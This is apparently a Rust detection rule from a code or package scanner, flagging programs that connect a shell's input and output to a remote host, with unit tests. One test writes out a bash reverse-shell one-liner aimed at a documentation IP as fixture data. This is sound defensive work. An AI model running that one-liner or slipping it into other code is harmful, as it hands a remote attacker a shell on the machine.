//! Hands a shell to the network.

use std::collections::HashMap;

use vetch_model::profile::Flow;

use crate::rules::prelude::*;

pub(crate) static META: RuleMeta = RuleMeta {
    id: "reverse-shell",
    summary: "Connects a shell's input and output to the network",
    category: Category::Behaviour,
    severity: Severity::Critical,
    confidence: Confidence::High,
    techniques: &["T1059", "T1095", "T1571"],
    remedy: CONTAIN,
    doc: include_str!("reverse_shell.md"),
};

use crate::shell::{Danger, dangers, is_interpreter};

pub(crate) fn check(c: &Contents<'_>, out: &mut Vec<Finding>) {
    let mut cases: Vec<Case> = c.of(CapabilityId::ProcessSpawn).filter_map(|spawn| by_command(c, spawn)).collect();
    let answers: HashMap<&str, &Flow> = c
        .flows()
        .filter(|flow| flow.source.id == CapabilityId::ProcessSpawn && flow.sink.id == CapabilityId::NetConnect)
        .map(|flow| (flow.source.evidence.location().file.as_str(), flow))
        .collect();
    cases.extend(c.flows().filter_map(|flow| by_flow(c, flow, &answers)));
    report_worst(out, &META, cases);
}

/// The command line itself connects the shell.
fn by_command(c: &Contents<'_>, spawn: &Capability) -> Option<Case> {
    let told = name_of(spawn).is_some_and(is_interpreter) && words_of(spawn).contains("/dev/tcp/");
    if !told && !name_of(spawn).is_some_and(|command| dangers(command).contains(&Danger::ReverseShell)) {
        return None;
    }
    let grade = if is_unasked(spawn.trigger) { CERTAIN } else { DOUBTFUL };
    let title = format!("{} connects a shell to the network {}", c.label(), when_words(spawn.trigger));
    Some(Case::new(grade, title, vec![spawn.evidence.clone()]))
}

/// What comes from the network goes into a shell, and what the shell says goes back.
fn by_flow(c: &Contents<'_>, inwards: &Flow, answers: &HashMap<&str, &Flow>) -> Option<Case> {
    let into_shell = inwards.source.id == CapabilityId::NetConnect && inwards.sink.id == CapabilityId::ProcessSpawn;
    if !into_shell || !name_of(&inwards.sink).is_some_and(is_interpreter) {
        return None;
    }
    let outwards = answers.get(inwards.sink.evidence.location().file.as_str())?;
    let host = c.host(&inwards.source);
    if !host.is_remote() {
        return None;
    }
    let trigger = when(inwards).max(when(outwards));
    let hidden = c.concealment(&inwards.sink);
    let grade = match (is_unasked(trigger), hidden.is_some()) {
        (true, _) => CERTAIN,
        (false, true) => HARMFUL,
        // Remote administration is a trade of its own.
        (false, false) => ODD,
    };
    let title = format!("{} connects a shell to {} {}", c.label(), host.words(), when_words(trigger));
    let mut evidence = evidence_of([&inwards.sink, &inwards.source, &outwards.sink]);
    evidence.extend(hidden);
    Some(Case::new(grade, title, evidence))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;
    use vetch_model::verdict::Verdict;

    const RULE: &str = "reverse-shell";

    #[test]
    fn shells_on_the_network_are_malicious() {
        let line = Facts::new().caps([spawn("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'")]);
        assert_eq!(line.verdict(RULE), Verdict::Malicious);
        let flow =
            Facts::new().flow(net("192.0.2.1:4444"), spawn("/bin/sh")).flow(spawn("/bin/sh"), net("192.0.2.1:4444"));
        assert_eq!(flow.verdict(RULE), Verdict::Malicious);
    }

    #[test]
    fn terminals_that_are_opened_on_request_are_notable() {
        let at = Trigger::Call;
        let facts =
            Facts::new().flow(net("*").at(at), spawn("bash").at(at)).flow(spawn("bash").at(at), net("*").at(at));
        assert_eq!(facts.verdict(RULE), Verdict::Notable);
        let one_way = Facts::new().flow(spawn("bash"), net("other.invalid"));
        assert_eq!(one_way.verdict(RULE), Verdict::Clean);
    }
}
